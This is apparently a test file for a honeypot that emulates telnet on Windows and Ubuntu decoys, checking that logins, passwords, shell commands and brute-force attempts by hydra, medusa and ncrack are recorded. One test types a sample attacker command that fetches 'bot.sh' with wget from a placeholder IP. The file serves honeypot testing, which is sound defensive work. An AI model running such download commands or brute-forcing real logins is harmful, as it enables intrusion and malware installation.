/** Telnet as its clients see it: the telnet command driven by expect, and the brute-force tools. Windows lets nobody in; Ubuntu has a lure. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { needs, run } from '../support/programs.ts';
import type { Stack } from '../support/stack.ts';
import { bruteForce, bruteForceTests, LURE_OPTIONS, LURED } from './brute-force.ts';
import { startDecoys, stopDecoys } from './decoys.ts';
import { ofType, onlyLogin, recordInTime } from './record.ts';

let shut: Stack;
let luring: Stack;
before(async () => {
  [shut, luring] = await startDecoys(
    { services: ['telnet'], persona: 'windows-server' },
    { services: ['telnet'], persona: 'ubuntu-server', options: { telnet: LURE_OPTIONS } },
  );
});
after(async () => {
  await stopDecoys(shut, luring);
});

/** What the telnet command is told to wait for and to type, by turns; then it is asked to quit, by its escape character. */
function talk(port: number, turns: readonly (readonly [wait: string, type: string])[], last: string) {
  const script = [
    'set timeout 20',
    'proc await {pattern} { expect -re $pattern {} timeout { exit 3 } eof { exit 4 } }',
    `spawn telnet 127.0.0.1 ${port}`,
    ...turns.flatMap(([wait, type]) => [`await {${wait}}`, `send -- {${type}}`, 'send -- "\\r"']),
    `await {${last}}`,
    ...['send -- "\\x1d"', 'await {telnet> $}', 'send -- "quit\\r"', 'expect eof', 'wait'],
  ];
  return run('expect', ['-'], { input: `${script.join('\n')}\n` });
}

const skip = needs('expect', 'telnet');

for (const [name, pick] of [
  ['Windows', () => shut],
  ['Ubuntu', () => luring],
] as const) {
  test(`telnet to ${name}: a refused login is recorded with its password`, { skip }, async (context) => {
    const port = pick().port('telnet');
    const { result, events } = await recordInTime(context, pick(), port, () =>
      talk(
        port,
        [
          ['login: $', 'operator'],
          ['[Pp]assword: $', 'S3cret !'],
        ],
        '(Login incorrect|Login Failed)',
      ),
    );
    assert.equal(result.code, 0, result.stdout);
    assert.deepEqual(onlyLogin(events), ['operator', 'S3cret !', 'plain', false]);
  });
}

test('telnet: a login that the lure lets in finds a shell, and its commands are recorded', {
  skip,
}, async (context) => {
  const port = luring.port('telnet');
  const { result, events } = await recordInTime(context, luring, port, () =>
    talk(
      port,
      [
        ['login: $', LURED.username],
        ['Password: $', LURED.password],
        ['\\$ $', 'uname -s'],
        ['Linux.*\\$ $', 'cd /tmp; wget http://192.0.2.7/bot.sh'],
      ],
      '\\$ $',
    ),
  );
  assert.equal(result.code, 0, result.stdout);
  assert.deepEqual(onlyLogin(events), [LURED.username, LURED.password, 'plain', true]);
  assert.deepEqual(
    ofType(events, 'command.input').map((event) => event.fields.command),
    ['uname -s', 'cd /tmp; wget http://192.0.2.7/bot.sh'],
  );
  assert.deepEqual(
    ofType(events, 'file.requested').flatMap((event) => event.fields.urls),
    ['http://192.0.2.7/bot.sh'],
  );
});

const target = (stack: Stack) => ({ port: stack.port('telnet'), module: 'telnet' });

bruteForceTests({
  shut: () => shut,
  luring: () => luring,
  target: (_, stack) => target(stack),
  tools: ['medusa', 'ncrack'],
});

// hydra 9.4 sends an empty name and a password without its first letter from the second attempt of a connection on, to any telnetd: each task gets one word.
test('hydra: every attempt is recorded once, and none gets in', { skip: needs('hydra') }, async (context) => {
  await bruteForce({ context, stack: shut, tool: 'hydra', target: target(shut), users: ['root'] });
});

test('hydra: it finds the login that the lure lets in', { skip: needs('hydra') }, async (context) => {
  const { username, password } = LURED;
  await bruteForce({
    ...{ context, stack: luring, tool: 'hydra', target: target(luring), lured: LURED },
    ...{ users: [username], passwords: [password] },
  });
});
